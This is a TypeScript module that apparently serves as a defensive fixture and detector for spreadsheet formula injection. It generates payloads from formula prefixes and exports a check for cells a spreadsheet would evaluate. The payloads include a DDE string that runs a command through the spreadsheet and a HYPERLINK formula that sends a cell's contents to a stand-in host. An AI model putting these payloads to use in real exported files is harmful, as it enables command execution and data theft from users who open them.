/** Texts that a spreadsheet would calculate, run, or take for something else; collected by us. source: promise F6; ASVS 1.2.10 */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '−',
  "'=",
  '"=',
]
const rest = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example/?x="&A1,"b")']

/** At least fifty of them. */
export const formulas: readonly string[] = starts.flatMap((start) => rest.map((end) => `${start}${end}`))

/** By our own reading: behind blanks, marks and quotes, a sign that begins a formula. A phone number is only a number. */
export const wouldCalculate = (cell: string): boolean =>
  (/^[\s\p{Cf}\u00a0]*[=+\-@＝＋－＠−]/u.test(cell) || /^[\t\r\n]/.test(cell)) &&
  !/^\+\d{1,15}$/.test(cell) &&
  !/^-?\d+([.,]\d+)?$/.test(cell)
